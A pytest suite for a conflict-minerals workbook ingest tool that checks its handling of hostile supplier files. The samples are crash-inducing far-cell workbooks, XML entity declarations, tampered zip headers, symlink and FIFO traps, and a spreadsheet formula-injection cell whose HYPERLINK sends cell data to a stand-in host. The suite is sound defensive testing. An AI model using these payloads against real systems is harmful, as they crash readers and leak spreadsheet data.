"""`cmr ingest` against hostile and odd supplier folders, as a user or an attacker would try it.

Each test builds the hostile case in a temporary folder from real supplier-filled CMRTs (the
RMI corpus beside the checkout) and runs the real `cmr` command in a subprocess: a Rust abort
in the run would otherwise take pytest down with it, and the process tests need a process to
kill. What must hold: the run completes with the good files aggregated and the bad one a
finding, or fails with a clear `file[:line]: message`; inputs survive; no process survives.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import yaml

from conflict_minerals.ingest.models import SupplierWorkbook, UnreadableWorkbook
from conflict_minerals.ingest.read import extract
from conflict_minerals.ingest.read import runner as ingest_runner
from conflict_minerals.ingest.read.reader import Limits, ReadFailure, check_zip, read_limited
from conflict_minerals.ingest.stopping import Interrupted, held, stop_on_signals
from conflict_minerals.ingest.write.spreadsheet import FORMULA_TRIGGERS, csv_bytes, neutralise

from .conftest import edited_workbook, excel_day

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "cmrt-corpus"
pytestmark = pytest.mark.skipif(
    not CORPUS.is_dir(), reason="../shared/cmrt-corpus is not beside the checkout"
)

REFERENCE = CORPUS / "smelter-reference-6.5.csv"
MERCK = CORPUS / "wwww13wwww__mineral-system__RMI_WF6_CMRT_6.4_Apr2024_Merck.xlsx"
PKG = CORPUS / "wwww13wwww__mineral-system__RMI_CMRT_6.4_PKG_DE00_20240710.xlsx"
GIGA = CORPUS / "wwww13wwww__mineral-system__RMI_CMRT_6.4_20240426_CG20240510_giga.xlsx"
TEMPLATE_65 = CORPUS / "cirscn__cm-reporting__RMI_CMRT_6.5.xlsx"
COMMON = ("--year", "2024", "--as-of", "2024-12-31", "--no-cache", "--jobs", "2")
RUN_SECONDS = 240


def cmr(*args: str, cwd: Path, **kwargs: object) -> subprocess.Popen:
    environment = {**os.environ, "XDG_CACHE_HOME": str(cwd / ".cache"), "RUST_BACKTRACE": "0"}
    return subprocess.Popen(
        [sys.executable, "-m", "conflict_minerals", *args],
        cwd=cwd,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment,
        **kwargs,
    )


def run(*args: str, cwd: Path) -> tuple[int, str]:
    """Run `cmr` to the end; stdout and stderr together (decoded leniently: they are checked
    for valid text separately where that matters)."""
    process = cmr(*args, cwd=cwd)
    stdout, stderr = process.communicate(timeout=RUN_SECONDS)
    output = (stdout + stderr).decode("utf-8", "replace")
    assert "Traceback" not in output, output
    return process.returncode, output


def ingest(folder: Path, out: Path, *extra: str, reference: bool = True) -> tuple[int, str]:
    arguments = ["ingest", str(folder), "--out", str(out), *COMMON, *extra]
    if reference:
        arguments += ["--reference", str(REFERENCE)]
    return run(*arguments, cwd=out.parent)


def load(path: Path) -> dict:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def cids_by_file(survey: dict) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for smelter in survey["smelters"]:
        for named in smelter["named_by"]:
            found.setdefault(named["file"], set()).add(smelter["cid"])
    return found


def findings_rows(folder: Path) -> list[dict[str, str]]:
    text = (folder / "findings.csv").read_bytes().decode("utf-8")  # strict: it must be UTF-8
    return list(csv.DictReader(io.StringIO(text)))


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# ----- class 1: the default reference list is read in a guarded worker -----


def with_far_lookup_cell(template: Path) -> bytes:
    return with_far_cell(template, "Smelter Look-up")


def with_far_cell(template: Path, sheet: str, cell: str = "XFD1048576") -> bytes:
    """The workbook with one value in the far corner of a sheet: calamine allocates the sheet's
    whole used range (2^34 cells here) and aborts the process. (The streaming reader would read
    it, the far cell being in no column it keeps: a comment in the sheet hands it to calamine.)"""
    with zipfile.ZipFile(template) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    content = dict(members)
    workbook = content["xl/workbook.xml"].decode("utf-8")
    rel_id = re.search(rf'<sheet [^>]*name="{sheet}"[^>]*r:id="([^"]+)"', workbook)[1]
    rels = content["xl/_rels/workbook.xml.rels"].decode("utf-8")
    target = re.search(rf'<Relationship [^>]*Id="{rel_id}"[^>]*Target="([^"]+)"', rels)
    target = target or re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rel_id}"', rels)
    part = "xl/" + target[1].removeprefix("/xl/")
    row = int(re.fullmatch(r"[A-Z]+([0-9]+)", cell)[1])
    far = f'<!-- read with calamine --><row r="{row}"><c r="{cell}"><v>1</v></c></row></sheetData>'.encode()
    content[part] = content[part].replace(b"</sheetData>", far, 1)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, _ in members:
            archive.writestr(name, content[name])
    return buffer.getvalue()


def filled_65(tmp_path: Path) -> Path:
    """The 6.5 template as a supplier's response (a blank template is never the reference)."""
    cells = {("Declaration", "D8"): "Hostile Template Ltd", ("Declaration", "D22"): excel_day("2024-05-01")}
    return edited_workbook(TEMPLATE_65, tmp_path / "filled-6.5.xlsx", cells)


def test_a_look_up_that_aborts_the_reader_is_a_finding_and_the_next_template_is_used(tmp_path: Path) -> None:
    folder = tmp_path / "suppliers"
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    shutil.copy(PKG, folder / "pkg.xlsx")
    # The newest template in the folder (6.5), so the default reference would come from it.
    (folder / "z-hostile-6.5.xlsx").write_bytes(with_far_lookup_cell(filled_65(tmp_path)))
    assert (folder / "z-hostile-6.5.xlsx").stat().st_size < 2_000_000

    code, output = ingest(folder, tmp_path / "s.yaml", "--findings", str(tmp_path / "f"), reference=False)

    assert code == 0, output  # every workbook was read; only its look-up could not be
    survey = load(tmp_path / "s.yaml")
    by_file = cids_by_file(survey)
    assert by_file.get("merck.xlsx") and by_file.get("pkg.xlsx"), by_file
    assert survey["ingest"]["files_read"] == 3
    assert survey["ingest"]["reference_list"] == "Smelter Look-up of CMRT 6.4 (pkg.xlsx)"
    (finding,) = [r for r in findings_rows(tmp_path / "f") if r["code"] == "lookup-unreadable"]
    assert finding["file"] == "z-hostile-6.5.xlsx" and finding["sheet"] == "Smelter Look-up"
    assert "crashed the reader" in finding["message"]


def test_no_readable_look_up_says_so_clearly(tmp_path: Path) -> None:
    folder = tmp_path / "suppliers"
    folder.mkdir()
    (folder / "hostile.xlsx").write_bytes(with_far_lookup_cell(filled_65(tmp_path)))
    code, output = ingest(folder, tmp_path / "s.yaml", reference=False)
    assert code == 1
    assert "no smelter reference list could be read from the 1 newest templates" in output
    assert "hostile.xlsx: " in output and "give the list with --reference" in output
    assert not (tmp_path / "s.yaml").exists()


def test_a_reference_workbook_that_aborts_the_reader_is_a_clear_error(tmp_path: Path) -> None:
    folder = tmp_path / "suppliers"
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    hostile = tmp_path / "reference.xlsx"
    hostile.write_bytes(with_far_lookup_cell(TEMPLATE_65))
    code, output = ingest(folder, tmp_path / "s.yaml", "--reference", str(hostile), reference=False)
    assert code == 1
    assert f"{hostile}: cannot use its Smelter Look-up as the reference list: the workbook crashed" in output
    assert not (tmp_path / "s.yaml").exists()


# ----- class 2: odd entries in the suppliers folder -----

UNDECODABLE = b"caf\xe9 \xff.xlsx"  # Latin-1 bytes, not UTF-8


def test_odd_entries_are_findings_and_the_good_files_are_counted_once(tmp_path: Path) -> None:
    folder = tmp_path / "suppliers"
    (folder / "folder.xlsx").mkdir(parents=True)
    (folder / "deep").mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    shutil.copy(PKG, folder / "folder.xlsx" / "pkg.xlsx")  # read: the folder's name is odd, not its file
    os.symlink("merck.xlsx", folder / "link-to-merck.xlsx")  # the same response again
    shutil.copy(MERCK, folder / "resent-merck.xlsx")  # an identical copy
    os.link(folder / "merck.xlsx", folder / "z-hard-link.xlsx")  # a second name for the same file
    os.symlink("loop.xlsx", folder / "loop.xlsx")
    os.symlink("missing.xlsx", folder / "dangling.xlsx")
    os.mkfifo(folder / "pipe.xlsx")  # reading it would block forever
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.copy(PKG, outside / "hidden.xlsx")
    os.symlink(outside, folder / "linked-folder")  # its workbook is not read: must be said
    os.symlink(folder / "deep", folder / "deep" / "self")  # a folder link loop: not followed
    bad_name = os.fsdecode(str(folder).encode() + b"/" + UNDECODABLE)
    shutil.copy(GIGA, bad_name)
    shutil.copy(GIGA, folder / "deep" / "line\nbreak\u202e.xlsx")

    code, output = ingest(
        folder,
        tmp_path / "s.yaml",
        "--findings",
        str(tmp_path / "f"),
        "--details",
        str(tmp_path / "d"),
    )

    assert code == 1, output  # some entries could not be read...
    survey = load(tmp_path / "s.yaml")  # ...and the rest is written
    assert survey["suppliers"] == {"surveyed": 3, "responded": 3}  # merck, pkg, giga: each once
    assert survey["ingest"]["files_read"] == 3
    assert survey["ingest"]["files_duplicate"] == 4
    assert survey["ingest"]["files_unreadable"] == 4
    escaped = "caf\\xe9 \\xff.xlsx"
    assert set(cids_by_file(survey)) == {"merck.xlsx", "folder.xlsx/pkg.xlsx", escaped}
    codes = {row["file"]: (row["code"], row["message"]) for row in findings_rows(tmp_path / "f")}
    file_codes = {file: code for file, (code, _) in codes.items() if code.startswith(("file-", "entry-"))}
    assert file_codes == {
        "dangling.xlsx": "file-unreadable",
        "loop.xlsx": "file-unreadable",
        "pipe.xlsx": "file-refused",
        "linked-folder/": "file-refused",
        "folder.xlsx": "entry-folder",
        "z-hard-link.xlsx": "file-duplicate",
        "link-to-merck.xlsx": "file-duplicate",
        "resent-merck.xlsx": "file-duplicate",
        "deep/line\\x0abreak\\u202e.xlsx": "file-duplicate",
    }
    assert "a link to merck.xlsx" in codes["link-to-merck.xlsx"][1]
    assert "the same content as merck.xlsx" in codes["resent-merck.xlsx"][1]
    assert f"the same content as {escaped}" in codes["deep/line\\x0abreak\\u202e.xlsx"][1]
    assert "FIFO" in codes["pipe.xlsx"][1]
    # Every output carries every name as valid UTF-8, with the same escaping.
    html = (tmp_path / "f" / "findings.html").read_bytes().decode("utf-8")
    assert escaped in html and "line\\x0abreak" in html
    details = {p.name: json.loads(p.read_bytes().decode("utf-8")) for p in (tmp_path / "d").glob("*.json")}
    assert any(d.get("file") == escaped for d in details.values())
    assert len(details) == 11  # one per entry named like a workbook, except the folder
    stdout_lines = [
        line for line in output.splitlines() if line.startswith(("dangling", "loop", "pipe", "linked"))
    ]
    assert len(stdout_lines) == 4, output


def test_a_file_that_cannot_be_read_is_a_finding(tmp_path: Path) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads a chmod 000 file; the dangling link above covers file-unreadable")
    folder = tmp_path / "suppliers"
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    shutil.copy(PKG, folder / "locked.xlsx")
    (folder / "locked.xlsx").chmod(0)
    code, output = ingest(folder, tmp_path / "s.yaml")
    assert code == 1
    assert "locked.xlsx: file-unreadable: cannot read the file: Permission denied" in output
    assert cids_by_file(load(tmp_path / "s.yaml")).get("merck.xlsx")


def test_a_suppliers_folder_that_is_a_link_or_a_file(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    shutil.copy(MERCK, real / "merck.xlsx")
    os.symlink(real, tmp_path / "suppliers")
    code, output = ingest(tmp_path / "suppliers", tmp_path / "s.yaml")
    assert code == 0, output
    assert cids_by_file(load(tmp_path / "s.yaml")).get("merck.xlsx")

    code, output = ingest(real / "merck.xlsx", tmp_path / "t.yaml")
    assert code == 1 and f"{real / 'merck.xlsx'}: is not a folder" in output


def test_long_and_colliding_names_each_get_their_details_file(tmp_path: Path) -> None:
    folder = tmp_path / "suppliers"
    deep = folder / ("d" * 120) / ("e" * 120)
    deep.mkdir(parents=True)
    shutil.copy(MERCK, deep / ("f" * 200 + ".xlsx"))
    shutil.copy(PKG, folder / "a b.xlsx")
    shutil.copy(GIGA, folder / "a_b.xlsx")
    code, output = ingest(folder, tmp_path / "s.yaml", "--details", str(tmp_path / "d"))
    assert code == 0, output
    details = {p.name: json.loads(p.read_text(encoding="utf-8")) for p in (tmp_path / "d").glob("*.json")}
    assert sorted(d["file"] for d in details.values()) == sorted(
        ["a b.xlsx", "a_b.xlsx", f"{'d' * 120}/{'e' * 120}/{'f' * 200}.xlsx"]
    )
    assert all(len(name.encode()) <= 200 for name in details)


# ----- class 3: no cell of a CSV the tool writes can run as a formula -----


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_neutralised(trigger: str) -> None:
    cell = f'{trigger}HYPERLINK("http://x.example/?"&A1,"click")'
    assert neutralise(cell) == "'" + cell
    (row,) = list(csv.reader(io.StringIO(csv_bytes(["h"], [[cell]]).decode("utf-8"))))[1:]
    assert row == ["'" + cell]


def test_plain_cells_are_written_as_they_are() -> None:
    for cell in ("Acme, Inc.", "CID000015", "x=1", "", "'quoted", "5-7"):
        assert neutralise(cell) == cell


def test_findings_csv_neutralises_supplier_controlled_text(tmp_path: Path) -> None:
    folder = tmp_path / "suppliers"
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    (folder / "=cmd()+A1.xlsx").write_bytes(b"not a workbook")
    (folder / "@SUM(1).xlsx").write_bytes(b"")
    code, output = ingest(folder, tmp_path / "s.yaml", "--findings", str(tmp_path / "f"))
    assert code == 1, output
    rows = findings_rows(tmp_path / "f")
    assert {r["file"] for r in rows if r["code"] == "file-corrupt"} == {"'=cmd()+A1.xlsx", "'@SUM(1).xlsx"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_TRIGGERS), row


# ----- class 4: every list CSV gives a clear error -----


@pytest.mark.parametrize("option", ["--status", "--roster", "--reference"])
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            b"Smelter ID,Status,Supplier,Metal,Smelter Name\n"
            b'CID000015,Active,"Acme,gold,x\nCID000016,Active,B,gold,y\n',
            ":2: a quoted field opened here is never closed",
        ),
        (
            b'Smelter ID,Status,Supplier,Metal,Smelter Name\nCID000015,"Active"x,A,gold,x\n',
            ":2: not valid CSV",
        ),
        (
            b"Smelter ID,Status,Supplier,Metal,Smelter Name\nCID000015,Active,Soci\xe9t\xe9,gold,x\n",
            ":2:22: not UTF-8 text (byte 0xe9)",
        ),
    ],
    ids=["unbalanced-quote", "stray-quote", "latin-1"],
)
def test_a_bad_list_csv_is_a_file_line_error(
    tmp_path: Path, option: str, content: bytes, expected: str
) -> None:
    folder = tmp_path / "suppliers"
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    bad = tmp_path / "list.csv"
    bad.write_bytes(content)
    code, output = ingest(
        folder,
        tmp_path / "s.yaml",
        option,
        str(bad),
        "--status-as-of",
        "2025-01-01",
        reference=option != "--reference",
    )
    assert code == 1, output
    assert f"{bad}{expected}" in output, output
    assert not (tmp_path / "s.yaml").exists()


@pytest.mark.parametrize("option", ["--status", "--roster", "--reference"])
def test_a_list_that_is_a_fifo_or_a_folder_is_refused_without_blocking(tmp_path: Path, option: str) -> None:
    folder = tmp_path / "suppliers"
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    os.mkfifo(tmp_path / "pipe.csv")
    for path, message in ((tmp_path / "pipe.csv", "is not a regular file"), (tmp_path, "is a folder")):
        code, output = ingest(
            folder, tmp_path / "s.yaml", option, str(path), reference=option != "--reference"
        )
        assert code == 1 and f"{path}: {option}: {message}" in output, output


# ----- class 5: outputs never replace inputs; leftovers of a killed run are cleared -----


def test_outputs_that_would_replace_an_input_are_refused(tmp_path: Path) -> None:
    folder = tmp_path / "suppliers"
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    status = tmp_path / "status.csv"
    status.write_text("Smelter ID,Status,As Of\nCID000015,Active,2025-01-01\n", encoding="utf-8")
    before = {p: sha(p) for p in (folder / "merck.xlsx", status)}
    cases = [
        (
            ["--out", str(folder / "merck.xlsx")],
            f"{folder / 'merck.xlsx'}: --out: is inside the suppliers folder",
        ),
        (["--out", str(folder / "survey.yaml")], "--out: is inside the suppliers folder"),
        (["--out", str(status), "--status", str(status)], f"{status}: --out: is the --status input file"),
        (
            ["--out", str(tmp_path / "s.yaml"), "--findings", str(folder)],
            "--findings: is inside the suppliers",
        ),
        (
            ["--out", str(tmp_path / "s.yaml"), "--details", str(folder / "d")],
            "--details: is inside the suppliers",
        ),
        (
            [
                "--out",
                str(tmp_path / "s.yaml"),
                "--findings",
                str(tmp_path),
                "--roster",
                str(tmp_path / "findings.csv"),
            ],
            "--findings: is the --roster input file",
        ),
        (
            ["--out", str(tmp_path / "d" / "merck.xlsx.json"), "--details", str(tmp_path / "d")],
            "--out: is also the name of a --details file",
        ),
    ]
    (tmp_path / "findings.csv").write_text("Supplier\nAcme\n", encoding="utf-8")
    for arguments, expected in cases:
        code, output = run(
            "ingest", str(folder), *COMMON, "--reference", str(REFERENCE), *arguments, cwd=tmp_path
        )
        assert code == 1 and expected in output, (arguments, output)
        assert "nothing was written" in output
    assert {p: sha(p) for p in before} == before
    assert sorted(p.name for p in folder.iterdir()) == ["merck.xlsx"]
    assert (tmp_path / "findings.csv").read_text(encoding="utf-8") == "Supplier\nAcme\n"


def test_the_next_run_removes_only_the_staging_folders_this_tool_made(tmp_path: Path) -> None:
    folder = tmp_path / "suppliers"
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    details = tmp_path / "d"
    details.mkdir()
    left = details / ".cmr-staging-k1ll3d_x"  # what a killed run leaves
    left.mkdir()
    (left / "merck.xlsx.json").write_text("{}", encoding="utf-8")
    mixed = details / ".cmr-staging-abcd1234"  # our name, but someone put their own file in it
    mixed.mkdir()
    (mixed / "notes.txt").write_text("mine", encoding="utf-8")
    (mixed / "x.json").write_text("{}", encoding="utf-8")
    lookalike = details / ".cmr-staging-mine"  # not a name this tool makes
    lookalike.mkdir()
    (lookalike / "a.json").write_text("{}", encoding="utf-8")
    code, output = ingest(folder, tmp_path / "s.yaml", "--details", str(details))
    assert code == 0, output
    assert not left.exists()
    assert sorted(p.name for p in mixed.iterdir()) == ["notes.txt"]
    assert (lookalike / "a.json").exists()
    assert (details / "merck.xlsx.json").exists()


# ----- class 6: no process outlives its command -----


def process_table() -> dict[int, tuple[int, str, str]]:
    """pid -> (parent pid, start time, state) for every process, from /proc."""
    table = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        fields = stat[stat.rindex(")") + 2 :].split()  # after "pid (comm) "
        table[int(entry.name)] = (int(fields[1]), fields[19], fields[0])
    return table


def descendants(root: int) -> dict[int, str]:
    """pid -> start time of every live process below `root`."""
    table = process_table()
    found, frontier = {}, [root]
    while frontier:
        parent = frontier.pop()
        for pid, (ppid, started, state) in table.items():
            if ppid == parent and pid not in found and state != "Z":
                found[pid] = started
                frontier.append(pid)
    return found


def survivors(processes: dict[int, str]) -> list[int]:
    """The processes of `processes` still running (the same pid and start time, not a zombie)."""
    table = process_table()
    alive = {pid for pid, (_, started, state) in table.items() if state not in ("Z", "X")}
    return sorted(pid for pid, started in processes.items() if pid in alive and table[pid][1] == started)


def slow_folder(root: Path, copies: int = 60) -> Path:
    folder = root / "suppliers"
    folder.mkdir()
    for number in range(copies):
        shutil.copy(GIGA, folder / f"g{number:02d}.xlsx")
    return folder


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL], ids=lambda s: s.name)
def test_a_stopped_run_leaves_no_process_and_nothing_half_written(
    tmp_path: Path, stop: signal.Signals
) -> None:
    folder = slow_folder(tmp_path)
    details = tmp_path / "d"
    arguments = [
        "ingest",
        str(folder),
        "--out",
        str(tmp_path / "s.yaml"),
        *COMMON,
        "--reference",
        str(REFERENCE),
    ]
    process = cmr(*arguments, "--details", str(details), cwd=tmp_path, start_new_session=True)
    seen: dict[int, str] = {}
    try:
        deadline = time.monotonic() + 60
        while len(seen) < 2 and time.monotonic() < deadline and process.poll() is None:
            seen |= descendants(process.pid)  # the workers (and multiprocessing's resource tracker)
            time.sleep(0.05)
        time.sleep(0.5)  # into the reading
        seen |= descendants(process.pid)
        assert process.poll() is None, f"the run ended before it could be stopped: {process.communicate()}"
        assert len(seen) >= 2, f"no workers seen: {seen}"
        started = time.monotonic()
        process.send_signal(stop)
        process.wait(timeout=30)
        stopped_after = time.monotonic() - started
        deadline = time.monotonic() + 10
        while survivors(seen) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert survivors(seen) == [], f"processes left behind: {survivors(seen)} of {sorted(seen)}"
        stderr = process.stderr.read().decode("utf-8", "replace")  # every writer is gone: no blocking
        if stop is signal.SIGKILL:
            assert process.returncode == -signal.SIGKILL
        else:
            assert process.returncode == 128 + stop, stderr
            assert stopped_after < 10, f"took {stopped_after:.1f} s to stop"
            assert f"ingest: stopped by {stop.name}; nothing was written" in stderr, stderr
            assert "Traceback" not in stderr
            # No staging left, and no lock file (the lock is the folder's own); on a loaded
            # machine the signal may come before the run took its output lock (and made the
            # folder): then there is nothing at all.
            assert not details.exists() or sorted(p.name for p in details.iterdir()) == []
        assert not (tmp_path / "s.yaml").exists()
    finally:
        for pid in [process.pid, *survivors(seen)]:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        process.wait(timeout=30)
    # The next run clears what a killed one left (its staging folder) and completes.
    shutil.rmtree(folder)
    folder.mkdir()
    shutil.copy(MERCK, folder / "merck.xlsx")
    code, output = run(*arguments, "--details", str(details), cwd=tmp_path)
    assert code == 0, output
    assert sorted(p.name for p in details.iterdir()) == ["merck.xlsx.json"]


def test_a_stop_signal_while_the_outputs_are_written_waits_for_them() -> None:
    done: list[str] = []
    previous = signal.getsignal(signal.SIGTERM)
    with pytest.raises(Interrupted) as stopped, stop_on_signals():
        with held():
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(0.2)  # the handler runs in here, and must not stop the block
            done.append("all outputs")
        done.append("after the block")
    assert done == ["all outputs"]
    assert stopped.value.exit_code == 143 and stopped.value.signal_name == "SIGTERM"
    assert signal.getsignal(signal.SIGTERM) is previous


# ----- class 10a: a transient failure is never cached -----


def test_a_read_that_ran_out_of_memory_is_not_cached(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = tmp_path / "merck.xlsx"
    shutil.copy(MERCK, source)
    job = ingest_runner.Job(str(source), "merck.xlsx", str(tmp_path / "cache"))

    def out_of_memory(data: bytes, limits: object = None, streaming: bool = False) -> object:
        raise MemoryError

    with monkeypatch.context() as patch:
        patch.setattr(extract, "open_workbook", out_of_memory)
        patch.setattr(extract, "open_scanned", out_of_memory)
        result = ingest_runner.read_job(job, "salt")
    assert isinstance(result, UnreadableWorkbook), result
    assert result.finding.message == extract.OUT_OF_MEMORY
    assert not list((tmp_path / "cache").rglob("*.json")), "an out-of-memory result must not be cached"
    again = ingest_runner.read_job(job, "salt")  # memory is back: the file reads, and is cached
    assert isinstance(again, SupplierWorkbook)
    assert len(list((tmp_path / "cache").rglob("*.json"))) == 1


def test_a_file_that_crashes_the_reader_is_reported_and_not_cached(tmp_path: Path) -> None:
    (tmp_path / "a-hostile.xlsx").write_bytes(with_far_cell(MERCK, "Declaration"))
    shutil.copy(PKG, tmp_path / "b-good.xlsx")
    cache = tmp_path / "cache"
    jobs = [ingest_runner.Job(str(tmp_path / name), name, None) for name in ("a-hostile.xlsx", "b-good.xlsx")]
    results = list(ingest_runner.read_all(jobs, 2, cache))
    assert isinstance(results[0], UnreadableWorkbook) and results[0].finding.code == "file-crashed"
    assert isinstance(results[1], SupplierWorkbook)
    cached = {p.stem for p in cache.rglob("*.json")}
    assert cached == {results[1].sha256}, "only the good file's result may be cached"


# ----- the zip checks read each XML part's first bytes straight from the file -----


def _zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize("compression", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2])
def test_entity_declarations_are_found_in_every_kind_of_part(compression: int) -> None:
    hostile = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    data = _zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/sharedStrings.xml": hostile}, compression)
    with pytest.raises(ReadFailure) as refused:
        check_zip(data, Limits())
    assert refused.value.code == "file-refused" and "xl/sharedStrings.xml" in refused.value.message
    check_zip(_zip_bytes({"xl/sharedStrings.xml": b"<sst/>" * 5000}, compression), Limits())


def test_only_the_first_bytes_of_a_part_are_probed() -> None:
    late = b"<sst>" + b" " * Limits().entity_probe_bytes + b"<!DOCTYPE x></sst>"
    check_zip(_zip_bytes({"xl/sharedStrings.xml": late}), Limits())


def test_a_part_whose_header_names_another_file_is_damaged() -> None:
    data = bytearray(_zip_bytes({"xl/workbook.xml": b"<workbook/>"}))
    header = data.index(b"xl/workbook.xml")  # the local header's copy comes first
    data[header : header + 15] = b"xl/evilbook.xml"
    with pytest.raises(ReadFailure) as damaged:
        check_zip(bytes(data), Limits())
    assert damaged.value.code == "file-corrupt" and "xl/workbook.xml" in damaged.value.message


@pytest.mark.parametrize("damage", ["signature", "deflate"])
def test_a_part_with_broken_bytes_is_damaged(damage: str) -> None:
    data = bytearray(_zip_bytes({"xl/workbook.xml": b"<workbook>" + bytes(range(256)) * 40}))
    if damage == "signature":
        data[0:4] = b"PK\x09\x09"
    else:
        start = 30 + len("xl/workbook.xml")
        data[start : start + 40] = b"\xff" * 40  # not a deflate stream
    with pytest.raises(ReadFailure) as damaged:
        check_zip(bytes(data), Limits())
    assert damaged.value.code == "file-corrupt"


def test_a_file_is_read_whole_and_never_past_the_limit(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    path.write_bytes(b"x" * 5000)
    assert read_limited(str(path), Limits()) == b"x" * 5000
    with pytest.raises(ReadFailure) as refused:
        read_limited(str(path), Limits(max_file_bytes=4999))
    assert refused.value.code == "file-refused"
    assert read_limited(str(path), Limits(max_file_bytes=5000)) == b"x" * 5000


@pytest.mark.parametrize("offset", [0x7FFFFFF0, 0xFFFFFFFF])
def test_a_part_whose_header_lies_outside_the_file_is_damaged(offset: int) -> None:
    data = bytearray(_zip_bytes({"xl/workbook.xml": b"<workbook/>"}))
    directory = data.index(b"PK\x01\x02")  # the central directory's entry for the part
    data[directory + 42 : directory + 46] = offset.to_bytes(4, "little")  # its local header's offset
    with pytest.raises(ReadFailure) as damaged:
        check_zip(bytes(data), Limits())
    assert damaged.value.code == "file-corrupt" and "xl/workbook.xml" in damaged.value.message
